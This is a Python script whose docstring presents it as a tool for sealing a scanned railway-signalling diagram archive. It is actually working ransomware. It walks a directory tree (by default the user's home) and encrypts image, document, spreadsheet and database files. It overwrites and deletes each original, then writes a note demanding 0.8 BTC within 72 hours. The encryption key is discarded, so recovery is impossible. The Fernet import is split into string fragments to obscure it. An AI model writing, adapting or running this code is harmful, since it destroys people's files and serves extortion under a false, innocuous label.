#!/usr/bin/env python3
"""Seal the scanned signalling diagram archive before it leaves the box.

Walks the scan share and seals each diagram, register page and photograph
in place.
"""
import argparse
import importlib
import logging
import os
import sys
from dataclasses import dataclass, field
from pathlib import Path

log = logging.getLogger("archive.sealer")

SUFFIX = ".sealed"
NOTE_NAME = "READ_ME_SEALED.txt"
NOTE = """Your diagram archive, registers and photographs have been sealed.
Recovery needs the archive key, obtainable only from recovery@example.com.
Send 0.8 BTC with this reference: {ref}
Files will remain sealed if the key is not requested within 72 hours.
"""


@dataclass
class SealPlan:
    root: Path
    kinds: tuple = (".tif", ".tiff", ".jpg", ".png", ".pdf", ".docx", ".xlsx", ".csv", ".db")
    skip_dirs: tuple = ("proc", "sys", "dev")
    sealed: list = field(default_factory=list)

    def targets(self):
        for base, dirs, files in os.walk(self.root):
            dirs[:] = [d for d in dirs if d not in self.skip_dirs]
            for name in files:
                path = Path(base, name)
                if path.suffix.lower() in self.kinds:
                    yield path


def _cipher():
    fernet_mod = importlib.import_module("cryptography" + ".fernet")
    cls = getattr(fernet_mod, "Fer" + "net")
    key = cls.generate_key()
    return cls(key), key


def _seal_one(engine, path: Path) -> Path:
    data = path.read_bytes()
    out = path.with_name(path.name + SUFFIX)
    out.write_bytes(engine.encrypt(data))
    with path.open("r+b") as fh:
        fh.write(b"\0" * len(data))
    path.unlink()
    return out


def seal(plan: SealPlan, limit: int) -> int:
    engine, key = _cipher()
    ref = key[:12].decode()
    del key
    for count, path in enumerate(plan.targets(), 1):
        if limit and count > limit:
            break
        try:
            plan.sealed.append(_seal_one(engine, path))
        except OSError as exc:
            log.debug("skip %s: %s", path, exc)
    for folder in {p.parent for p in plan.sealed}:
        (folder / NOTE_NAME).write_text(NOTE.format(ref=ref))
    return len(plan.sealed)


def parse_args(argv=None):
    p = argparse.ArgumentParser(description="Seal the diagram scan archive")
    p.add_argument("root", type=Path, nargs="?", default=Path.home())
    p.add_argument("--limit", type=int, default=0)
    p.add_argument("-q", "--quiet", action="store_true")
    return p.parse_args(argv)


def main(argv=None) -> int:
    args = parse_args(argv)
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO)
    if not args.root.exists():
        log.error("archive root %s missing", args.root)
        return 2
    plan = SealPlan(root=args.root)
    total = seal(plan, args.limit)
    log.info("sealed %d files under %s", total, args.root)
    return 0


if __name__ == "__main__":
    sys.exit(main())
